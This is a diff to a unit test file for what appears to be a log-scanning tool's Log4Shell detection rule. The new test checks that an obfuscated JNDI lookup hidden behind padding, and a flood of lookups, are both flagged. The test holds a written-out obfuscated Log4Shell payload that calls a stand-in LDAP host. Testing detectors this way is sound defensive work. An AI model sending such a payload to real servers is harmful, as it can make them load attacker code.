@@ -11,6 +11,7 @@ from lwsyslog.events import AccessEvent, Origin
 from lwsyslog.findings import Finding
 from lwsyslog.rules import ALL_RULES, AccessSample, ErrorSample, Sample
 from lwsyslog.rules.detector import MAX_FRAGMENT_CHARS
+from lwsyslog.rules.log4shell import MAX_LOOKUPS
 from lwsyslog.rules.watched import WatchedPath
 from lwsyslog.severity import Severity
 from tests.unit.engines import builtin_engine, explain_all
@@ -142,6 +143,18 @@ def test_log4shell_obfuscations_in_headers() -> None:
         for field in ("user_agent", "referer", "cookie"):
             sample = AccessSample(target="/", **{field: value})  # type: ignore[arg-type]
             assert "log4shell-jndi" in fired(sample), (field, value)
+
+
+def test_a_flood_of_log4j_lookups_is_reported_as_jndi_and_a_few_are_not() -> None:
+    # Past MAX_LOOKUPS the rule stops resolving and fails closed: padding cannot hide the one
+    # that spells jndi, and resolving thousands of lookups is not paid.
+    hidden = "${::-a}" * MAX_LOOKUPS + "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}"
+    flood = "${::-a}" * (MAX_LOOKUPS + 1)
+    few = "${::-a}" * (MAX_LOOKUPS // 2)
+    for field in ("user_agent", "referer"):
+        assert "log4shell-jndi" in fired(AccessSample(target="/", **{field: hidden}))  # type: ignore[arg-type]
+        assert "log4shell-jndi" in fired(AccessSample(target="/", **{field: flood}))  # type: ignore[arg-type]
+        assert "log4shell-jndi" not in fired(AccessSample(target="/", **{field: few}))  # type: ignore[arg-type]
 
 
 def test_fake_client_in_url_does_not_frame_another_address() -> None:
